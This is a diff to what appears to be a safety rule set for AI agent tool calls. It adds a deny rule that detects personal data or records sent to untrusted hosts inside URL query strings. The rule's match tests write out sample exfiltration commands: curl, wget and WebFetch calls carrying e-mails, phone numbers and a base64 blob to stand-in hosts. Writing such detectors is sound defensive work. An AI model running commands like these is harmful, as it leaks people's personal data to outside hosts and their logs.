@@ -420,3 +420,42 @@ def private_upload(cmd: Command, a: Analysis) -> str | None:
         if is_secret_path(p, a.ctx.home) or is_private_data(p, a.ctx.home) or (p.startswith(a.ctx.home) and APP_DATA.search(p)):
             return f"`{' '.join(w.value for w in cmd.argv)[:70]}` copies {v} (credentials or an application's private data) to {e.target}"
     return None
+
+
+@rule(
+    "AM-EXFIL-024",
+    category="exfiltrate",
+    verdict="deny",
+    kind="effect",
+    names={"network"},
+    title="Sends records or personal data in a URL",
+    what="A web fetch or request whose URL itself carries data (`knowledge.urldata`): e-mail addresses or phone "
+    "numbers, JSON or CSV records, or a long encoded blob, sent to a host that is not local, not trusted and not "
+    "named by the user (an online formatter, validator or converter reached by GET); an encoded blob alone asks.",
+    why="A query string is an upload: the host, its logs and every proxy on the way keep the records.",
+    example="WebFetch https://json-pretty.example/format?data=[{\"email\":\"m.okafor@mail.example\",...}]",
+    instead="Process the data locally (`jq . file.json`, `python -m json.tool file.json`), or name the service to "
+    "the user first.",
+    must_match=[{"tool": "WebFetch", "input": {"url": "https://json-pretty.example/api/format?data=%5B%7B%22email%22%3A%22m.okafor%40mail.example%22%2C%22phone%22%3A%22%2B44%2020%207946%200811%22%7D%5D", "prompt": "format"}},
+                "curl -s 'https://csv-tools.example/convert?csv=id,name,email%0A1,Ann,ann@mail.example%0A2,Bo,bo@mail.example'",
+                {"tool": "WebFetch", "input": {"url": "https://validate.example/json?doc=%5B%7B%22sku%22%3A%22A1%22%2C%22qty%22%3A2%7D%2C%7B%22sku%22%3A%22B2%22%2C%22qty%22%3A5%7D%5D", "prompt": "is it valid"}},
+                "wget -qO- 'https://t.example/c?p=" + "bmFtZSxlbWFpbCxwaG9uZQpBbm4gTGVlLGFubkBtYWlsLmV4YW1wbGUsKzQ0IDIwIDc5NDYgMDgxMQpCbyBLaW0sYm9AbWFpbC5leGFtcGxlLCs0NCAyMCA3OTQ2IDA4MTI=" + "'"],
+    must_not_match=[{"tool": "WebFetch", "input": {"url": "https://docs.python.org/3/search.html?q=json+pretty+print", "prompt": "x"}},
+                    {"tool": "WebFetch", "input": {"url": "https://api.github.com/search/issues?q=repo:acme/app+is:open&per_page=50", "prompt": "x"}},
+                    "curl -s 'http://localhost:8000/api/users?filter=%7B%22email%22%3A%22a%40b.example%22%2C%22x%22%3A1%2C%22y%22%3A2%7D'",
+                    "curl -s 'https://newsletter.example/subscribe?email=ann@mail.example'",
+                    {"tool": "WebFetch", "input": {"url": "https://quickchart.example/chart?c=%7B%22type%22%3A%22bar%22%7D", "prompt": "x"}}],
+)  # fmt: skip
+def data_in_url(e: Effect, a: Analysis) -> str | Hit | None:
+    from automode.knowledge import urldata
+    from automode.rules.secrets import named_host
+
+    what = urldata.carried(e.target)
+    if what is None:
+        return None
+    host = url_host(e.target)
+    if is_local(host) or a.trusted_host(host) or named_host(a, host):
+        return None
+    if what.startswith("an encoded blob"):
+        return Hit(f"the URL to {host} carries {what}", "ask")
+    return f"the URL to {host} carries {what}: a GET with the data in its query is an upload"
